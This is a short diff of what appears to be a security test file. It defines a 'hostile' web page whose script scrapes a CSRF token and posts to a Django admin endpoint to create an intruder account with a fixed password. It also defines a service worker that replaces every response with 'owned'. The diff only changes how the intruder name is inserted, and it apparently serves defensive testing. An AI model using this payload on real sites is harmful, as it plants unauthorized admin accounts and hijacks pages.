@@ -29,7 +29,7 @@ PAGE = """<!doctype html><html><head><title>hostile</title></head><body><p>Nothi
     const token = (text.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || "";
     out.read_form = token !== "";
     const body = new URLSearchParams({
-      csrfmiddlewaretoken: token, username: "%(intruder)s", usable_password: "true",
+      csrfmiddlewaretoken: token, username: "INTRUDER_NAME", usable_password: "true",
       password1: "Intrude-r-2026!", password2: "Intrude-r-2026!",
     });
     const made = await fetch(supervisor + "/admin/auth/user/add/", {
@@ -49,7 +49,7 @@ PAGE = """<!doctype html><html><head><title>hostile</title></head><body><p>Nothi
   document.title = "attack done";
 })();
 </script></body></html>
-""" % {"intruder": INTRUDER}
+""".replace("INTRUDER_NAME", INTRUDER)
 
 SERVICE_WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')));\n"
 
